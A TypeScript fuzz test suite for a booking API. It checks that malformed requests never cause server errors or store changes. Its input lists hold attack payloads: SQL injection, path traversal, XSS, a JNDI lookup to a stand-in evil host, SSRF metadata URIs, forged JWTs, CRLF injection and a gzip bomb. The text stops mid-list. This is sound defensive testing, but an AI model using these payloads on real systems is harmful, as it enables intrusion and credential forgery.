/**
 * A fuzz suite over every operation of core/api/operations.ts, on both hosts: the Fastify app (through
 * `app.inject`) and the MSW sandbox (msw/node and `fetch`). Each operation starts from one valid request
 * aimed at the target of ./support.ts, and each case changes one thing of it:
 * - one field its schemas declare (walked from the operation's TypeBox schemas, whether the valid request
 *   has it or not): wrong types, huge values, prototype names, injection strings, impossible dates, deep
 *   nesting, random JSON (fast-check with a fixed seed), bad UTF-8 inside it, and its removal;
 * - the whole body: other JSON types, a BOM, UTF-16, truncated or padded text, other content types, too large;
 * - one path parameter, or the query string: prototype names, injection strings, traversal, bad
 *   percent-encoding, very long ids, the ids of other trips, other sellers and other kinds of resource;
 * - the credentials: none, malformed, another seller's key, tokens of another trip, seller or kind, forged;
 * - one other header (request id, Idempotency-Key, If-None-Match, Accept-Encoding, Origin), or the method.
 *
 * What must hold for every answer (api.md "Errors": "Bad input changes nothing"): no 5xx; a refusal
 * (status ≥ 400) is problem+json naming its X-Request-Id; a refusal changes nothing in the store (writes
 * are counted with watchWrites, and the whole store is compared only when the count moved). A case may be
 * valid and succeed; the store is then put back as it was, so every case meets the same target. The
 * valid request itself must succeed, or the cases built on it would prove little. What fetch refuses to
 * send (a header that is no ByteString, TRACE) is skipped on the sandbox, and counted.
 *
 * And the contract holds: every refusal an operation answers with (its status and `code`) is one its
 * responses declare in the OpenAPI document (GET /v2.2/openapi.json), so a client generated from it knows
 * every answer this suite could provoke. A refusal counts for the operation its path and method route to,
 * on the raw path and with dot segments resolved alike (a request that routes to no operation, or to two,
 * is the router's answer: 404, 405, a preflight).
 *
 * The admin API (/admin/v1, the Fastify server only) is fuzzed the same way with a valid operator key, every
 * operation its own OpenAPI document serves aimed at real objects (a seller, a booked trip, a webhook
 * delivery, a dead job): no 5xx, every refusal a problem with its request id, and none changes the store.
 *
 * Failures are collected and reported together per host (the first 20), and each host prints its counts.
 * Deterministic: counting ids, a fixed clock, a fixed fast-check seed and a fixed order of cases.
 */
import { test, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { setupServer } from 'msw/node'
import { operations, type Operation } from '../../core/api/operations.ts'
import * as S from '../../core/schemas/index.ts'
import type { MemoryStore, MemorySnapshot } from '../../core/adapters/memory-store.ts'
import { build, testIds, tripPayload, SHOP_ORIGIN } from '../helpers/build.ts'
import { routes } from '../../mock-server/host.ts'
import { CONTACT, FULFILL_PASSENGERS } from '../helpers/flows.ts'
import {
  PROTOTYPE_NAMES,
  basicAuth,
  bearerAuth,
  bodyText,
  hostsUnderTest,
  injectSend,
  json,
  makeTarget,
  problemViolations,
  watchWrites,
  type HostUnderTest,
  type Req,
  type Res,
  type Target,
} from './support.ts'

/** Every random value below comes from this seed: a failure found once is found again. */
const SEED = 20261122
const SANDBOX_ORIGIN = 'http://fuzz.sandbox.test'

type Json = unknown
type Path = Array<string | number>

// ---------------------------------------------------------------- the nasty values

const LONG = 'a'.repeat(100_000)
/** Any JSON type where another is expected (some are valid somewhere: those cases simply succeed). */
const WRONG_TYPES: Json[] = [null, true, 0, -1.5, '', 'x', [], {}, [null]]
const NASTY_STRINGS: string[] = [
  ' ',
  '\u0000',
  'a\u0000b',
  "' OR 1=1 --",
  '"; DROP TABLE trips; --',
  '../../etc/passwd',
  '..\\..\\boot.ini',
  '%00',
  '%2e%2e%2f',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'line\r\nX-Injected: 1',
  // Lone surrogates: JSON.stringify writes them as \ud800 escapes, which parse back to unpaired UTF-16.
  '\ud800',
  '\udfff\ud800',
  '\u202egnp.exe',
  'A\uffff',
  'A\u0007B',
  'A\u200bB',
  '😀'.repeat(64),
  'ß'.repeat(3_000),
  'a'.repeat(129),
  LONG,
]
/** Besides ±1e308, which every number gets. */
const NASTY_NUMBERS: number[] = [
  Number.MAX_SAFE_INTEGER,
  2 ** 53 + 2,
  2 ** 50,
  2 ** 50 + 1,
  -(2 ** 50) - 1,
  5e-324,
  1e21,
  0.1,
  0.3,
  1.005,
  999.999,
  -0.01,
  10,
]
/** Number-like text JSON.stringify cannot write: some is valid JSON (1e400, given to every number, parses to Infinity), most is not. */
const RAW_NUMBERS = [
  '-1e400',
  '1e-400',
  '-0',
  '1.0',
  '1e2',
  'NaN',
  'Infinity',
  '-Infinity',
  '0x10',
  '01',
  '+1',
  '.5',
  '1.',
  '1e',
  '--1',
]
/** Calendar dates that are no date, in the future (the clock is 2026-11-22), or at the edges of what Date handles. */
const DATES = [
  '1982-13-45',
  '2023-02-30',
  '0000-00-00',
  '2021-04-31',
  '1990-1-1',
  '19900101',
  '1990-01-01T00:00:00Z',
  '1990-01-01 ',
  '2999-01-01',
  '2026-11-23',
  '1800-01-01',
  '2024-02-29',
  '2100-02-29',
  '0001-01-01',
  '9999-12-31',
  '-001990-01-01',
  '+275760-09-13',
]
const DATE_TIMES = [
  '2026-02-30T10:00:00Z',
  '2026-13-45T10:00:00Z',
  '0000-00-00T00:00:00Z',
  '2026-12-22T24:00:00Z',
  '2026-12-22T23:59:60Z',
  '2026-12-22T10:00:00+99:99',
  '2026-12-22T10:00:00-00:00',
  '9999-12-31T23:59:59-23:59',
  '0001-01-01T00:00:00Z',
  '2020-01-01T00:00:00Z',
  '2026-12-22T10:00:00.123456789+05:45',
  '2026-12-22T10:00',
  '2026-12-22',
  '2026-12-22t10:00:00Z',
]
const EMAILS = [
  'a@b',
  'not-an-email',
  '"><script>@x.example',
  `${'a'.repeat(250)}@x.example`,
  'user@[127.0.0.1]',
  'a@b@c.example',
]
const URIS = [
  'javascript:alert(1)',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'http://localhost:5432/',
  'https://user:pass@evil.example/',
  'ftp://evil.example/',
  `https://${'a'.repeat(2_000)}.example/`,
  'https://[::1]/',
  '//evil.example',
]
/** Strings that pass a code's pattern without naming anything (an unknown airport, currency or airline), or almost pass it. */
const CODES = ['ZZZ', 'AAA', 'XX', '00', 'ÅÅÅ', 'zz']
/** Bytes that are not UTF-8: a bad continuation, a lone one, an overlong '/', an encoded surrogate, beyond U+10FFFF, Latin-1 'é'. */
const BAD_UTF8 = [[0xc3, 0x28], [0x80], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xe9]]

/** 10 MB of zeros in 10 KB: neither host may inflate it. */
const GZIP_BOMB = gzipSync(new Uint8Array(10 * 1024 * 1024))

// Built as text: JSON.stringify itself would overflow on such values.
const deepObject = (depth: number) => `${'{"k":'.repeat(depth)}1${'}'.repeat(depth)}`
const deepArray = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`
const wideObject = (keys: number) => `{${Array.from({ length: keys }, (_, i) => `"k${i}":${i}`).join(',')}}`

// Random JSON and strings, drawn in order from pools sampled once with the seed.
const JSON_POOL = fc.sample(fc.jsonValue({ maxDepth: 3 }), { seed: SEED, numRuns: 500 })
const STRING_POOL = fc.sample(fc.string({ unit: 'binary', maxLength: 80 }), { seed: SEED + 1, numRuns: 500 })
let drawn = 0
const draw = <T>(pool: readonly T[]): T => pool[drawn++ % pool.length]!
/** `n` items of `list`, taken in turn (the next call goes on where this one stopped). */
let taken = 0
const take = <T>(list: readonly T[], n: number): T[] => Array.from({ length: n }, () => list[taken++ % list.length]!)

// ---------------------------------------------------------------- bodies and one field of them

/** What a case does to one field: a new value, raw text or bytes in its place (what JSON.stringify cannot write), or removal. */
type Edit = { label: string } & ({ value: Json } | { raw: string | Uint8Array } | { remove: true })

const show = (v: unknown) => {
  const s = v === undefined ? 'undefined' : JSON.stringify(v)
  return s.length > 40 ? `${s.slice(0, 37)}…(${s.length})` : s
}
const utf8 = (text: string) => new TextEncoder().encode(text)
const SENTINEL = '\u0001fuzz-raw\u0001'

/** `base` with `edit` applied at `path`, as the bytes of a JSON body (an empty body when the root is removed). */
function edited(base: Json, path: Path, edit: Edit): Uint8Array {
  if (path.length === 0) {
    if ('remove' in edit) return new Uint8Array(0)
    if ('raw' in edit) return typeof edit.raw === 'string' ? utf8(edit.raw) : edit.raw
    return utf8(JSON.stringify(edit.value))
  }
  const root = JSON.parse(JSON.stringify(base)) as Record<string | number, unknown>
  let node = root
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>
  const last = path[path.length - 1]!
  if ('remove' in edit) {
    if (Array.isArray(node)) node.splice(Number(last), 1)
    else delete node[last]
    return utf8(JSON.stringify(root))
  }
  // defineProperty, so a key named __proto__ becomes an own property that JSON.stringify writes out.
  Object.defineProperty(node, last, {
    value: 'raw' in edit ? SENTINEL : edit.value,
    enumerable: true,
    writable: true,
    configurable: true,
  })
  const text = JSON.stringify(root)
  if (!('raw' in edit)) return utf8(text)
  const [head, tail] = text.split(JSON.stringify(SENTINEL)) as [string, string]
  const raw = typeof edit.raw === 'string' ? utf8(edit.raw) : edit.raw
  return Buffer.concat([utf8(head), raw, utf8(tail)])
}

/** A JSON object's text with one more member in front, written raw (so `__proto__` stays a plain key). */
const withMember = (base: Json, key: string, valueText: string) => {
  const rest =
    base && typeof base === 'object' && !Array.isArray(base) && Object.keys(base).length > 0
      ? `,${JSON.stringify(base).slice(1)}`
      : '}'
  return `{${JSON.stringify(key)}:${valueText}${rest}`
}

interface Field {
  path: Path
  schema: Record<string, any>
  value: Json
  present: boolean
}

/** A schema and, through anyOf, every branch of it. */
const branches = (schema: Record<string, any>): Array<Record<string, any>> =>
  Array.isArray(schema.anyOf) ? schema.anyOf.flatMap(branches) : [schema]

/**
 * The fields of a body, walked from its schema alongside the valid value: every declared property
 * (present or not), each present key of a record (metadata), and the first element of an array. Only
 * what the valid value has is walked deeper: one field changes, the rest stays valid.
 */
function fieldsOf(schema: Record<string, any>, value: Json, path: Path = [], out = new Map<string, Field>()): Field[] {
  if (path.length === 0) out.set('', { path, schema, value, present: value !== undefined })
  const add = (key: string | number, sub: Record<string, any>, child: Json, present: boolean) => {
    const at = [...path, key]
    const id = JSON.stringify(at)
    if (out.has(id)) return
    out.set(id, { path: at, schema: sub, value: child, present })
    if (present) fieldsOf(sub, child, at, out)
  }
  const obj =
    value && typeof value === 'object' && !Array.isArray(value) ? (value as Record<string, unknown>) : undefined
  for (const s of branches(schema)) {
    if (s.type === 'object' && s.properties) {
      for (const [k, sub] of Object.entries(s.properties as Record<string, any>))
        add(k, sub, obj?.[k], !!obj && Object.hasOwn(obj, k))
    }
    if (s.type === 'object' && s.patternProperties && obj) {
      for (const [pattern, sub] of Object.entries(s.patternProperties as Record<string, any>)) {
        for (const k of Object.keys(obj)) if (new RegExp(pattern).test(k)) add(k, sub, obj[k], true)
      }
    }
    if (s.type === 'array' && Array.isArray(value) && value.length > 0 && s.items) add(0, s.items, value[0], true)
  }
  return [...out.values()]
}

/** The JSON types a schema allows (a const counts as its value's type). */
function kindsOf(schema: Record<string, any>): Set<string> {
  const kinds = new Set<string>()
  for (const b of branches(schema)) {
    if (b.const !== undefined) kinds.add(typeof b.const)
    for (const t of [b.type ?? []].flat()) kinds.add(t === 'integer' ? 'number' : t)
  }
  return kinds
}

/** Whether a schema is (or allows) an id of the API: product, passenger, ticket, basket item ids. */
const isId = (schema: Record<string, any>) => {
  const id = S.Id as Record<string, any>
  return branches(schema).some(
    (b) => b.type === 'string' && b.minLength === id.minLength && b.maxLength === id.maxLength,
  )
}

/**
 * Everything one field is fuzzed with, chosen by what its schema says it is. Every field gets every wrong
 * type, its removal and the values of its format (dates, timestamps, e-mails, URIs) in full; ids get every
 * nasty string and every prototype name too. Other fields take the nasty values in turn, a few each, so
 * that every value is used across the fields of each body and the run stays short.
 */
function editsFor(field: Field): Edit[] {
  const kinds = kindsOf(field.schema)
  const strings = branches(field.schema).filter((b) => b.type === 'string' || typeof b.const === 'string')
  const base = field.value
  const id = isId(field.schema)
  const edits: Edit[] = WRONG_TYPES.map((value) => ({ label: `type ${show(value)}`, value }))
  if (field.present) edits.push({ label: 'removed', remove: true })
  const random = draw(JSON_POOL)
  edits.push({ label: `fast-check ${show(random)}`, value: random })
  if (kinds.has('string')) {
    const nasty = id ? [...NASTY_STRINGS, ...PROTOTYPE_NAMES] : [...take(NASTY_STRINGS, 6), ...take(PROTOTYPE_NAMES, 1)]
    for (const value of [...nasty, draw(STRING_POOL)]) edits.push({ label: `string ${show(value)}`, value })
    // Invalid UTF-8 bytes inside an otherwise well-formed string.
    const [bytes] = take(BAD_UTF8, 1) as [number[]]
    edits.push({
      label: `bad UTF-8 ${bytes.map((b) => b.toString(16)).join(' ')}`,
      raw: Buffer.concat([utf8('"ok'), Buffer.from(bytes), utf8('"')]),
    })
    const formats = new Set(strings.map((b) => b.format))
    const patterned = strings.some((b) => b.pattern)
    const extra = [
      ...(formats.has('date') ? DATES : []),
      ...(strings.some((b) => String(b.pattern ?? '').includes('T\\d{2}')) ? DATE_TIMES : []),
      ...(formats.has('email') ? EMAILS : []),
      ...(formats.has('uri') ? URIS : []),
      ...(patterned ? take(CODES, 2) : []),
    ]
    // Near misses of the valid value: case, padding, a trailing newline (a `$` that matched before it would take it).
    if (typeof base === 'string' && (patterned || strings.some((b) => b.const !== undefined || b.format))) {
      extra.push(base.toLowerCase(), base.toUpperCase(), ` ${base}`, `${base}\n`, `${base}${base}`)
    }
    for (const value of extra) edits.push({ label: `string ${show(value)}`, value })
  }
  if (kinds.has('number')) {
    for (const value of [1e308, -1e308, ...take(NASTY_NUMBERS, 5)]) edits.push({ label: `number ${value}`, value })
    for (const raw of ['1e400', ...take(RAW_NUMBERS, 5)]) edits.push({ label: `raw ${raw}`, raw })
  }
  if (kinds.has('boolean')) for (const value of ['true', 1]) edits.push({ label: `boolean ${show(value)}`, value })
  if (kinds.has('object')) {
    const members = base && typeof base === 'object' && !Array.isArray(base) ? base : {}
    for (const name of new Set(['__proto__', ...take(PROTOTYPE_NAMES, 1)]))
      edits.push({ label: `member ${name}`, raw: withMember(members, name, '{"polluted":true}') })
    edits.push(
      { label: 'constructor.prototype', raw: withMember(members, 'constructor', '{"prototype":{"polluted":true}}') },
      { label: 'unknown member', raw: withMember(members, 'zz_unknown', '1') },
      { label: 'nested 10,000 deep', raw: deepObject(10_000) },
      { label: '2,000 members', raw: wideObject(2_000) },
    )
  }
  if (kinds.has('array')) {
    const first = Array.isArray(base) && base.length > 0 ? base[0] : 0
    edits.push(
      { label: '51 copies of the first element', value: Array.from({ length: 51 }, () => first) },
      { label: '10,000 zeros', value: new Array(10_000).fill(0) },
      { label: 'arrays nested 10,000 deep', raw: deepArray(10_000) },
    )
  }
  return edits
}

// ---------------------------------------------------------------- the valid request of each operation

interface Base {
  op: Operation
  params: Record<string, string>
  query: string
  body?: Json
  auth?: string
}

/** The valid request of every operation, aimed at the target; a new operation must be given one here. */
function baseOf(op: Operation, t: Target, now: Date): Base {
  const params: Record<string, string> = {}
  for (const [, name] of op.path.matchAll(/:(\w+)/g)) {
    params[name!] = (
      {
        trip_id: t.trip.trip_id,
        search_id: t.trip.search_id,
        basket_item_id: t.items.bag,
        subscription_id: t.subscriptionId,
      } as Record<string, string>
    )[name!]!
    assert.ok(params[name!], `${op.id}: no target id for :${name}`)
  }
  const auth = op.auth === 'public' ? undefined : basicAuth(t.apiKey)
  const b = (body?: Json, query = ''): Base => ({ op, params, query, body, auth })
  switch (op.id) {
    case 'authorize':
    case 'getTrip':
    case 'getBasket':
    case 'getTripEvents':
    case 'removeFromBasket':
    case 'checkBasket':
    case 'acceptItem':
    case 'listSubscriptions':
    case 'deleteSubscription':
    case 'jwks':
      return b()
    case 'getSearch':
      return b(undefined, '?product_types=bag')
    case 'listOrders':
      return b(undefined, '?status=succeeded&updated_since=2026-01-01T00:00:00Z&limit=10')
    case 'createTrip':
      return b(fullTripRequest(now))
    case 'patchTrip':
      return b({
        passengers: [
          {
            passenger_id: 'p1',
            first_names: 'Ada',
            surname: 'Lovelace',
            date_of_birth: '1985-12-10',
            gender: 'female',
            title: 'Ms',
            metadata: { crm: 'C-1', tags: ['vip', 2] },
            loyalty_programs: [
              { airline_id: 'BA', program_name: 'Executive Club', number: '12345678', tier_name: 'Gold' },
            ],
            identity_documents: [{ document_type: 'passport', document_number: 'X1234567' }],
          },
        ],
        contact_details: { ...CONTACT, address: { ...CONTACT.address, state: null } },
      })
    case 'startSearch':
      return b({ bag: { search: true }, priority_boarding: { search: true } })
    case 'addToBasket':
      return b([
        {
          product_id: t.products.bagP2,
          passenger_id: 'p2',
          quantity: 1,
          markup: { amount: 250, currency: 'EUR', decimal_places: 2 },
        },
      ])
    case 'replaceBasket':
      return b([
        { product_id: t.products.bag, passenger_id: 'p1', quantity: 1 },
        { product_id: t.products.otherSeat, passenger_id: 'p2', quantity: 1 },
      ])
    case 'fulfill':
      return b({
        trip_state_hash: t.stateHash,
        contact_details: CONTACT,
        passengers: FULFILL_PASSENGERS,
        tickets: t.trip.tickets.map((tk, i) => ({
          ticket_id: tk.ticket_id,
          access_details: { record_locator: `ABC12${i}`, ticket_number: `125000000000${i}` },
          status: 'booked',
        })),
        payment_details: { payment_type: 'service_settlement' },
      })
    case 'createSubscription':
      return b({
        delivery_method: 'http',
        target: 'https://hooks.shop.example/fuzz',
        event_name: 'fulfillment_completed',
      })
    // On the target's fulfilled trip, whose bag's order succeeded and has a quote to confirm.
    case 'quoteCancellation':
      return { op, params: { trip_id: t.booked.trip_id }, query: '', body: { basket_item_ids: [t.booked.bag] }, auth }
    case 'getCancellationQuote':
    case 'confirmCancellation':
      return { op, params: { trip_id: t.booked.trip_id }, query: '', auth }
    case 'refreshToken':
      return b({ refresh_token: t.trip.refresh_token })
    default:
      throw new Error(`operation ${op.id} has no valid request in the fuzz suite: add one to baseOf`)
  }
}

/** The walk-through's trip (docs/api.md) with every optional field filled in, so the walk reaches each of them. Bags only: a cheap search. */
function fullTripRequest(now: Date) {
  const p = tripPayload(now)
  p.search = { bag: { search: true } }
  const ticket = p.tickets[0]!
  ticket.journeys[0]!.segments[0] = {
    ...ticket.journeys[0]!.segments[0]!,
    operating_airline: 'BA',
    operating_flight_number: '117',
    metadata: { leg: 'out', codes: ['a', 1] },
  }
  p.passengers[0] = {
    passenger_id: 'p1',
    passenger_type: 'adult',
    on_lap_of: null,
    first_names: 'Ada',
    surname: 'Lovelace',
    date_of_birth: '1985-12-10',
    gender: 'female',
    title: 'Ms',
    metadata: { crm: 'C-1', nested: { tier: 'gold' } },
    loyalty_programs: [{ airline_id: 'BA', program_name: 'Executive Club', number: '12345678', tier_name: 'Gold' }],
    identity_documents: [{ document_type: 'passport', document_number: 'X1234567' }],
  }
  p.contact_details = { ...CONTACT, address: { ...CONTACT.address, state: 'Greater London' } }
  p.corporate_identifiers = { acme: { corporate_id: 'ACME-1', name: 'Acme Ltd' } }
  p.markups = { default: { percentage: 5, fixed: 100 }, bag: { percentage: 12.5 } }
  return p
}

// ---------------------------------------------------------------- cases

/** `valid`: the operation's valid request, which the other cases change one thing of; it must succeed. */
interface Case {
  what: string
  req: Req
  valid?: boolean
}

/** Valid requests refused on purpose: the target's bag is `valid`, and only a `price_changed` item can be accepted. */
const REFUSED_WHEN_VALID: Record<string, number> = { acceptItem: 409 }

/** The path of `op` with `params`, each encoded as a client would, except those named in `raw`. */
function pathOf(op: Operation, params: Record<string, string>, raw: ReadonlySet<string> = new Set()): string {
  return op.path.replace(/:(\w+)/g, (_, name: string) =>
    raw.has(name) ? params[name]! : encodeURIComponent(params[name]!),
  )
}

function request(
  b: Base,
  change: {
    method?: string
    path?: string
    query?: string
    body?: Uint8Array | null
    headers?: Record<string, string | undefined>
  } = {},
): Req {
  const headers: Record<string, string | undefined> = {}
  if (b.auth !== undefined) headers.authorization = b.auth
  let body: Uint8Array | undefined
  if (change.body !== undefined) body = change.body ?? undefined
  else if (b.body !== undefined) body = utf8(JSON.stringify(b.body))
  if (body !== undefined) headers['content-type'] = 'application/json'
  Object.assign(headers, change.headers)
  const clean: Record<string, string> = {}
  for (const [k, v] of Object.entries(headers)) if (v !== undefined) clean[k] = v
  return {
    method: change.method ?? b.op.method,
    url: `${change.path ?? pathOf(b.op, b.params)}${change.query ?? b.query}`,
    headers: clean,
    ...(body !== undefined ? { body } : {}),
  }
}

const b64url = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url')
const jwtParts = (token: string) => {
  const [h, p, s] = token.split('.') as [string, string, string]
  return {
    h,
    p,
    s,
    header: JSON.parse(Buffer.from(h, 'base64url').toString()),
    payload: JSON.parse(Buffer.from(p, 'base64url').toString()),
  }
}

/** Credentials that are missing, malformed, of another seller, another trip or another kind, or forged. */
function credentials(t: Target, otherApiKey: string): Array<[string, string | undefined]> {
  const tok = jwtParts(t.trip.access_token)
  const b64 = (s: string) => Buffer.from(s, 'latin1').toString('base64')
  return [
    ['no credentials', undefined],
    ['empty', ''],
    ['spaces', '   '],
    ['Basic alone', 'Basic'],
    ['Basic, no value', 'Basic '],
    ['Basic, not base64', 'Basic !!!'],
    ['Basic, unknown key', basicAuth('svc_live_unknown')],
    ['Basic, other seller', basicAuth(otherApiKey)],
    ['Basic, with a password', `Basic ${b64(`${t.apiKey}:secret`)}`],
    ['Basic, no colon', `Basic ${b64(t.apiKey)}`],
    ['Basic, key as password', `Basic ${b64(`:${t.apiKey}`)}`],
    ['Basic, trailing junk', `${basicAuth(t.apiKey)} junk`],
    ['Basic, injection', basicAuth("' OR 1=1 --")],
    ['Basic, prototype name', basicAuth('__proto__')],
    ['Basic, 10,000 characters', `Basic ${'A'.repeat(10_000)}`],
    ['Basic, Latin-1 bytes', `Basic ${b64('clé:')}`],
    ['basic, lower case', `basic ${b64(`${t.apiKey}:`)}`],
    ['raw API key', t.apiKey],
    ['Token scheme', `Token ${t.apiKey}`],
    ['Digest scheme', 'Digest username="svc", response="x"'],
    ['Bearer alone', 'Bearer'],
    ['Bearer, empty', 'Bearer '],
    ['Bearer, garbage', bearerAuth('garbage')],
    ['Bearer, three dots', bearerAuth('a.b.c')],
    ['Bearer, the API key', bearerAuth(t.apiKey)],
    ['Bearer, access token', bearerAuth(t.trip.access_token)],
    ['Bearer, access token twice', `Bearer ${t.trip.access_token} ${t.trip.access_token}`],
    ['Bearer, sibling trip token', bearerAuth(t.sibling.access_token)],
    ['Bearer, other seller trip token', bearerAuth(t.foreign.access_token)],
    ['Bearer, creation token', bearerAuth(t.creationToken)],
    ['Bearer, refresh token', bearerAuth(t.trip.refresh_token)],
    ['Bearer, alg none', bearerAuth(`${b64url({ ...tok.header, alg: 'none' })}.${tok.p}.`)],
    ['Bearer, HS256 header', bearerAuth(`${b64url({ ...tok.header, alg: 'HS256' })}.${tok.p}.${tok.s}`)],
    [
      'Bearer, sub of the other seller trip',
      bearerAuth(`${tok.h}.${b64url({ ...tok.payload, sub: t.foreign.trip_id })}.${tok.s}`),
    ],
    ['Bearer, exp extended', bearerAuth(`${tok.h}.${b64url({ ...tok.payload, exp: 4_102_444_800 })}.${tok.s}`)],
    ['Bearer, tampered signature', bearerAuth(`${tok.h}.${tok.p}.${tok.s.slice(0, -4)}AAAA`)],
    ['Bearer, kid traversal', bearerAuth(`${b64url({ ...tok.header, kid: '../../etc/passwd' })}.${tok.p}.${tok.s}`)],
    ['Bearer, kid __proto__', bearerAuth(`${b64url({ ...tok.header, kid: '__proto__' })}.${tok.p}.${tok.s}`)],
    ['Bearer, header not JSON', bearerAuth(`${Buffer.from('{"alg":').toString('base64url')}.${tok.p}.${tok.s}`)],
    ['Bearer, 10,000 characters', bearerAuth('x'.repeat(10_000))],
    ['Bearer, injection', bearerAuth("' OR 1=1 --")],
    ['Bearer, emoji (not a ByteString)', bearerAuth('😀')],
    ['Bearer, CRLF', 'Bearer a\r\nX-Injected: 1'],
  ]
}

const PATH_EXTRAS = [
  ...PROTOTYPE_NAMES,
  "' OR 1=1 --",
  '1 OR 1=1',
  '"; DROP TABLE trips; --',
  '../../etc/passwd',
  '..',
  '.',
  '%00',
  '\u0000',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  'a'.repeat(128),
  'a'.repeat(129),
  'a'.repeat(256),
  'a'.repeat(257),
  'a'.repeat(5_000),
  '😀',
  'ß',
  ' ',
  '00000000-0000-0000-0000-000000000000',
]
/** Segments sent as they are, not encoded: bad percent-encoding, encoded traversal and NUL, an empty segment. */
const RAW_SEGMENTS = [
  '%',
  '%zz',
  '%E0%A4%A',
  '%C0%AF',
  '%ED%A0%80',
  '%FF',
  '%00',
  '%2e%2e',
  '%2F',
  '%252e%252e',
  "'%20OR%201=1%20--",
  '..%2F..%2Fetc%2Fpasswd',
  '',
  '..',
  '.',
]
const QUERIES = [
  '?&&',
  '?__proto__=1',
  '?__proto__[polluted]=1',
  '?constructor[prototype][polluted]=1',
  '?a=%ZZ',
  '?%=1',
  `?x=${'a'.repeat(10_000)}`,
  '?a=1&a=2',
  "?q='%20OR%201=1%20--",
  '?product_types[__proto__]=bag',
]
const PRODUCT_TYPES = [
  '',
  'bag,',
  ',bag',
  'BAG',
  'bag,,seat',
  'bag,bag',
  'ticket',
  '__proto__',
  'constructor',
  'toString',
  'seat',
  'bag,seat,priority_boarding,automatic_check_in,fare_family_upsell',
  "bag'%20OR%201=1%20--",
  'bag%00',
  'bag%2Cseat',
  'x'.repeat(5_000),
  '%E0%A4%A',
  'bag%20',
]
/** Values of any query parameter (sent as they are): numbers out of range, times that are none, cursors that are not ours. */
const QUERY_VALUES = [
  '',
  '0',
  '-1',
  '1',
  '200',
  '201',
  '1e2',
  '0x10',
  '1.5',
  '050',
  '9'.repeat(400),
  'null',
  'true',
  '__proto__',
  'constructor',
  'succeeded',
  'SUCCEEDED',
  'in_progress',
  "'%20OR%201=1%20--",
  '%00',
  '%E0%A4%A',
  'x'.repeat(5_000),
  '2026-12-22T23:59:60Z',
  '2026-02-30T10:00:00Z',
  '9999-12-31T23:59:59-23:59',
  '9999-12-31T23:59:59.999Z',
  '0000-01-01T00:00:00Z',
  '%2B275760-09-13T00:00:00Z',
  '2026-12-22T10:00:00%2B05:45',
  '2026-12-22',
  // Cursor-like: base64url of a position without, or with a wrong, checksum; base64url that is not UTF-8.
  Buffer.from('[1,0,null,null]').toString('base64url'),
  Buffer.from('[1,0,null,null].0000000000000000').toString('base64url'),
  Buffer.from('[1,-1,null,null].0000000000000000').toString('base64url'),
  Buffer.from([0xff, 0xfe, 0x2e]).toString('base64url'),
  'AAAA',
  '_-_-',
]
const CONTENT_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/jsonp',
  'application/problem+json',
  'application/merge-patch+json',
  'application/json; charset=latin1',
  'application/json; charset=utf-16',
  'Application/JSON',
  'application/json;',
  'application/json, text/html',
  '',
  '*/*',
  'application/json\u0000',
]
/** The whole-body cases sent to operations that take no body. */
const BODYLESS_KEPT = new Set([
  '{}',
  'truncated to 1 byte',
  'bad UTF-8 up front',
  'objects nested 10,000 deep',
  'too large (300 KB)',
])
const METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND']

/** Every case of every operation, in a fixed order (the same for both hosts). */
function casesFor(t: Target, otherApiKey: string, now: Date): Case[] {
  drawn = 0
  taken = 0
  const cases: Case[] = []
  const add = (op: Operation, what: string, req: Req) => cases.push({ what: `${op.id}: ${what}`, req })
  const seenPaths = new Set<string>()

  for (const op of operations) {
    const base = baseOf(op, t, now)
    assert.equal(base.body !== undefined, op.body !== undefined, `${op.id}: a body exactly when the operation has one`)
    cases.push({ what: `${op.id}: the valid request`, req: request(base), valid: true })

    // One field of the body at a time.
    if (op.body) {
      for (const field of fieldsOf(op.body as Record<string, any>, base.body)) {
        const at = `/${field.path.join('/')}`
        for (const edit of editsFor(field)) {
          // Where the operation honours Idempotency-Key, each case carries a key of its own: a refusal made by
          // the handler must then also release the key it reserved.
          const headers = op.idempotent ? { 'idempotency-key': `fuzz-${cases.length}` } : {}
          add(op, `body ${at} ← ${edit.label}`, request(base, { body: edited(base.body, field.path, edit), headers }))
        }
      }
    }

    // The body as a whole: its bytes, its encoding, its type. Operations without one get one anyway.
    const text = base.body === undefined ? '{}' : JSON.stringify(base.body)
    const bytes = utf8(text)
    const bodies: Array<[string, Uint8Array | null]> = [
      ['no body', null],
      ['empty body', new Uint8Array(0)],
      ['whitespace', utf8(' \n\t ')],
      ['BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), bytes])],
      ['two BOMs', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]), bytes])],
      ['UTF-16LE with BOM', Buffer.from(`\ufeff${text}`, 'utf16le')],
      ['UTF-16BE with BOM', Buffer.from(`\ufeff${text}`, 'utf16le').swap16()],
      ['truncated to 1 byte', bytes.slice(0, 1)],
      ['truncated to half', bytes.slice(0, Math.floor(bytes.length / 2))],
      ['truncated by 1 byte', bytes.slice(0, -1)],
      ['trailing garbage', utf8(`${text}x`)],
      ['twice', utf8(`${text}${text}`)],
      ['trailing NUL', utf8(`${text}\u0000`)],
      ['single quotes', utf8(text.replace('"', "'"))],
      ['comment', utf8(`/* c */${text}`)],
      ['trailing comma', utf8(`${text.slice(0, -1)},${text.slice(-1)}`)],
      ['bad UTF-8 up front', Buffer.concat([Buffer.from([0xff, 0xfe, 0xfd]), bytes])],
      ...BAD_UTF8.map((b): [string, Uint8Array] => [
        `bad UTF-8 in a key ${b.map((x) => x.toString(16)).join(' ')}`,
        Buffer.concat([utf8('{"'), Buffer.from(b), utf8(`":1,${text.slice(1)}`)]),
      ]),
      ['null', utf8('null')],
      ['true', utf8('true')],
      ['0', utf8('0')],
      ['a string', utf8('"str"')],
